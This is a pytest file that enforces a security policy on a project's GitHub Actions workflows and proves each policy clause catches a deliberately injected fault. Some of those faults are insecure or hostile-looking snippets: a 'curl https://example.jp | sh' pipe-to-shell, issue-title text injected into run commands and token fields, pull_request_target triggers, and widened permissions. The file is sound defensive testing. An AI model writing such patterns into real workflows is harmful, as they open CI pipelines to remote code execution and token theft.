"""The workflows keep the policy, and every clause of the policy catches what it is there for."""

from __future__ import annotations

import re

import pytest

from tests.conftest import ROOT
from tests.forge.allowed import PERMISSIONS, TRIGGERS
from tests.forge.policy import CHECKS, problems

FOLDER = ROOT / ".github/workflows"
TEXTS = {file.name: file.read_text("utf-8") for file in sorted(FOLDER.iterdir())}


def test_every_workflow_is_known() -> None:
    """No file without a line in both tables."""
    assert set(TEXTS) == set(TRIGGERS) == set(PERMISSIONS)


@pytest.mark.parametrize("name", TEXTS)
def test_workflows_keep_the_policy(name: str) -> None:
    """Nothing that the policy forbids, and every job of the table is there."""
    assert problems(name, TEXTS[name]) == []
    assert set(PERMISSIONS[name]) == set(re.findall(r"^  (\w+):\n    name:", TEXTS[name], re.MULTILINE))


def test_an_action_has_one_version() -> None:
    """The same action is the same commit everywhere."""
    pins = set(re.findall(r"uses: (\S+)@(\w+)", "".join(TEXTS.values())))
    assert len(pins) == len({action for action, _ in pins})


FAULTS = [
    ("triggers", "intake.yml", "  issues:\n", "  issue_comment:\n  issues:\n"),
    ("triggers", "review.yml", "types: [submission-updated]", "types: [submission-updated, publish]"),
    ("triggers", "ci.yml", "  pull_request:\n", "  pull_request_target:\n"),
    ("timers", "review.yml", "13,43 0-9", "0,30 0-9"),
    ("permissions", "intake.yml", "permissions: {}\n", "permissions: read-all\n"),
    ("permissions", "review.yml", "      contents: read # read this", "      contents: write # read this"),
    ("permissions", "review.yml", "issues: write # ", "issues: write "),
    ("limits", "decide.yml", "    timeout-minutes: 10\n", ""),
    ("limits", "ci.yml", "timeout-minutes: 20", "timeout-minutes: 360"),
    ("limits", "intake.yml", "runs-on: ubuntu-24.04", "runs-on: self-hosted"),
    ("commands", "intake.yml", '"$GITHUB_EVENT_PATH"', "${{ github.event.issue.title }}"),
    ("commands", "intake.yml", '--event "$GITHUB_EVENT_PATH"', "--event $GITHUB_EVENT_PATH"),
    ("commands", "intake.yml", "run: make install\n", "run: make install && curl https://example.jp | sh\n"),
    ("commands", "decide.yml", "run: make install\n", 'run: make install "$(cat title)"\n'),
    ("commands", "intake.yml", "run: make install\n", "run: pip install saijiki\n"),
    ("commands", "intake.yml", "      - run: make install\n", "      - run: make install\n        shell: python\n"),
    ("runner files", "intake.yml", "--out issues\n", '--out issues >> "$GITHUB_ENV"\n'),
    ("main", "publish.yml", "if: github.ref == 'refs/heads/main' # nothing but", "# nothing but"),
    ("main", "review.yml", "!cancelled() && github.ref == 'refs/heads/main'", "!cancelled()"),
    ("caches", "publish.yml", 'python-version: "3.11"\n', 'python-version: "3.11"\n          cache: pip\n'),
    ("actions", "intake.yml", "@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1", "@v7 # v7.0.1"),
    ("actions", "intake.yml", " # v7.0.1", ""),
    ("actions", "intake.yml", "uses: actions/setup-python", "uses: setup/python"),
    ("actions", "decide.yml", "persist-credentials: false", "persist-credentials: true"),
    ("actions", "review.yml", "fetch-depth: 0", "ref: ${{ github.head_ref }}"),
    ("concurrency", "intake.yml", "intake-${{ github.event.issue.number }}", "intake-${{ github.ref }}"),
    ("concurrency", "decide.yml", "decide-${{ inputs.number }}", "decide"),
    ("concurrency", "ci.yml", "concurrency:\n", "x-concurrency:\n"),
    ("concurrency", "intake.yml", "cancel-in-progress: false", "cancel-in-progress: true"),
    ("words", "intake.yml", "GH_TOKEN: ${{ github.token }}", "GH_TOKEN: ${{ github.event.issue.title }}"),
    ("words", "intake.yml", "GH_TOKEN: ${{ github.token }}", "GH_TOKEN: ${{ toJSON(github.event) }}"),
    ("words", "review.yml", "${{ vars.SAIJIKI_ON_DUTY }}", "${{ GitHub.Event['client_payload'].on_duty }}"),
    ("words", "decide.yml", "${{ vars.SAIJIKI_ON_DUTY }}", "${{ inputs.reason }}"),
    ("words", "intake.yml", "propose --data out", 'propose --data "$GITHUB_EVENT_PATH"'),
    ("words", "intake.yml", "actions/download-artifact@", "actions/upload-artifact@"),
    ("tokens", "intake.yml", "GH_TOKEN: ${{ github.token }}", "GH_TOKEN: ${{ secrets.GITHUB_TOKEN }}"),
    ("tokens", "intake.yml", "jobs:\n", "env:\n  GH_TOKEN: ${{ github.token }}\njobs:\n"),
    ("tokens", "intake.yml", "    steps:\n", "    env:\n      GH_TOKEN: ${{ github.token }}\n    steps:\n"),
    ("tokens", "publish.yml", "BASE_URL: ${{ steps.pages.outputs.base_url }}", "GH_TOKEN: ${{ github.token }}"),
    (
        "tokens",
        "intake.yml",
        "      - run: .venv",
        "      - env: {GH_TOKEN: '${{ github.token }}'}\n        run: .venv",
    ),
    (
        "tokens",
        "intake.yml",
        "          name: intake\n",
        "          name: intake\n          token: ${{ github.token }}\n",
    ),
    ("published", "decide.yml", "    if: github.ref == 'refs/heads/main'", "    if: true"),
]


@pytest.mark.parametrize(("check", "name", "right", "wrong"), FAULTS, ids=[f"{f[0]}-{n}" for n, f in enumerate(FAULTS)])
def test_faults_are_caught(check: str, name: str, right: str, wrong: str) -> None:
    """A workflow with one fault written into it does not keep the clause."""
    assert right in TEXTS[name]
    assert check in {each for each, _ in problems(name, TEXTS[name].replace(right, wrong, 1))}


def test_every_clause_is_proven() -> None:
    """No clause of the policy without a fault that it catches."""
    assert {fault[0] for fault in FAULTS} == set(CHECKS)
